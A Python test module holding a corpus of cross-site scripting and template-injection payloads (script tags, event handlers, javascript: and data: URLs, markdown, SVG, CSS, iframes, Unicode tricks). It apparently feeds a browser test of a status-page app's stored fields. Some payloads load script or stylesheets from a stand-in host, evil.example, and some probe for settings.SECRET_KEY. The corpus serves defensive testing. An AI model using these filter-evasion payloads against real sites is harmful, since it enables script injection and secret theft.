"""Payloads that try to run script, load foreign content or evaluate templates through stored text.

Each fits in 100 characters (the shortest stored name: components, groups, the page), so every payload can
go into every field. Those that would run script call alert(1) or set window.__xss, which the browser test
watches. Sources: OWASP's XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet, the html5sec.org
vectors, and template injection as in cachethq/cachet#4621.
"""

from __future__ import annotations

SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<script>window.__xss=1</script",
    '"><script>window.__xss=1</script>',
    "</textarea><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="window.__xss=1">',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    '<a href="#" onclick="window.__xss=1">click</a>',
    "<img src=x oNeRrOr=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
]

URLS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<img src="javascript:alert(1)">',
]

MARKDOWN = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](  javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "![img](javascript:alert(1))",
    '![x" onerror="alert(1)](https://example.com/x.png)',
    '[x](https://example.com "title\\" onmouseover=\\"alert(1)")',
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
]

SVG_MATH = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
]

CSS = [
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="width:expression(alert(1))">x</div>',
    "<p style=\"background:url('https://evil.example/track')\">x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
]

EMBEDDING = [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<frameset onload=alert(1)>",
]

BROKEN = [
    '<img src="x" alt=""onerror="alert(1)"',
    "<a href='x' title='\"><script>alert(1)</script>'>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<<script>alert(1);//<</script>",
    "<img src=`x` onerror=alert(1)>",
    '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "</p></div></main><script>alert(1)</script>",
]

UNICODE = [
    "\u202eCSS\u202c <img src=x onerror=alert(1)>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    '<a href="java\nscript:alert(1)">x</a>',
    "\ufeff<script>alert(1)</script>",
]

# Template syntax: must come out literally, never evaluated (Django, Jinja, string.Template, ERB, JS).
TEMPLATE = [
    "{{7*7}} {{ request.user }}",
    "{% debug %}{% load static %}",
    "${7+7} $page ${page} #{7+7}",
    "<%= 7*7 %> {{constructor.constructor('alert(1)')()}}",
    "{{ settings.SECRET_KEY }}",
]

# Harmless even if pasted raw into HTML (an odd element name, a value inside an attribute, a bogus comment):
# in the corpus because a naive filter that strips or rewrites them can *make* them dangerous.
HARMLESS_RAW = {
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<img/src=x/onerror=alert(1)>",
    "<a href='x' title='\"><script>alert(1)</script>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
}

ALL = SCRIPT + EVENT_HANDLERS + URLS + MARKDOWN + SVG_MATH + CSS + EMBEDDING + BROKEN + UNICODE + TEMPLATE

# The literal text each template payload must show (and the evaluated forms it must not).
TEMPLATE_LITERALS = ["{{7*7}}", "{% debug %}", "${7+7}", "<%= 7*7 %>", "{{ settings.SECRET_KEY }}"]

assert len(ALL) >= 50, len(ALL)
assert all(len(p) <= 100 for p in ALL), [p for p in ALL if len(p) > 100]
assert len(set(ALL)) == len(ALL)


def chunks(texts: list[str], limit: int) -> list[str]:
    """The payloads joined by newlines into as few strings of at most `limit` characters as fit."""
    out: list[str] = []
    for text in texts:
        if out and len(out[-1]) + 1 + len(text) <= limit:
            out[-1] += "\n" + text
        else:
            out.append(text)
    return out
